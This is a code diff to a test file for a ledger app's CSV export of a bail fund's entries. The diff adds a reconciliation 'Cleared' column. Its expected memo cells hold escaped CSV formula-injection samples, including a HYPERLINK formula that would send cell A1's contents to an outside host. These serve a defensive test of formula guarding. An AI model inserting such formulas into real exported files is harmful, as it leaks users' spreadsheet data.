@@ -47,14 +47,32 @@ function parsed(text: string): string[][] {
 
 describe('a view written to a CSV file', () => {
   it('holds every entry of a fund’s view, newest first, with amounts and balances as numbers and formulas guarded', async () => {
-    const { client, bail, out } = await meetingLedger();
+    const { client, bank, bail, out } = await meetingLedger();
+    await client.accounts.reconcile({ accountId: bank.id, date: '2026-11-02', statementBalance: 0, cleared: [2] });
     const path = join(out, 'bail.csv');
     expect(await client.ledger.exportCsv({ fundId: bail.id, path })).toEqual({ path, rows: 2, recipient: null, passphrase: null });
     const text = readFileSync(path, 'utf8');
     expect(parsed(text)).toEqual([
-      ['Entry', 'Date', 'Kind', 'Amount', 'Currency', 'Account', 'To account', 'Fund', 'To fund', 'Category', 'Recipient code', 'Memo', 'Corrects entry', 'Reversed by entry', 'Balance after'],
-      ['3', '2026-11-03', 'Disbursement', '-75', 'USD', 'Credit union', '', 'Bail fund', '', 'Bail', 'R-7KQ2MX', '\'-2 left, "quoted", and a comma', '', '', '425'],
-      ['2', '2026-11-02', 'Transfer', '500', 'USD', 'Credit union', 'Credit union', 'General', 'Bail fund', '', '', "'+1 for the bail fund", '', '', '500'],
+      [
+        'Entry',
+        'Date',
+        'Kind',
+        'Amount',
+        'Currency',
+        'Account',
+        'To account',
+        'Fund',
+        'To fund',
+        'Category',
+        'Recipient code',
+        'Memo',
+        'Corrects entry',
+        'Reversed by entry',
+        'Cleared',
+        'Balance after',
+      ],
+      ['3', '2026-11-03', 'Disbursement', '-75', 'USD', 'Credit union', '', 'Bail fund', '', 'Bail', 'R-7KQ2MX', '\'-2 left, "quoted", and a comma', '', '', '', '425'],
+      ['2', '2026-11-02', 'Transfer', '500', 'USD', 'Credit union', 'Credit union', 'General', 'Bail fund', '', '', "'+1 for the bail fund", '', '', 'yes', '500'],
     ]);
     // The amount cell is a bare number: nothing before its minus sign.
     expect(text).toContain(',-75,USD,');
@@ -80,6 +98,7 @@ describe('a view written to a CSV file', () => {
       'Nota',
       'Corrige el movimiento',
       'Revertido por el movimiento',
+      'Conciliado',
     ]);
     const memos = rows.map((row) => row[11]);
     expect(memos).toEqual(["'@SUM(1)", '\'-2 left, "quoted", and a comma', "'+1 for the bail fund", '\'=HYPERLINK("http://example.org/?"&A1,"Click")']);
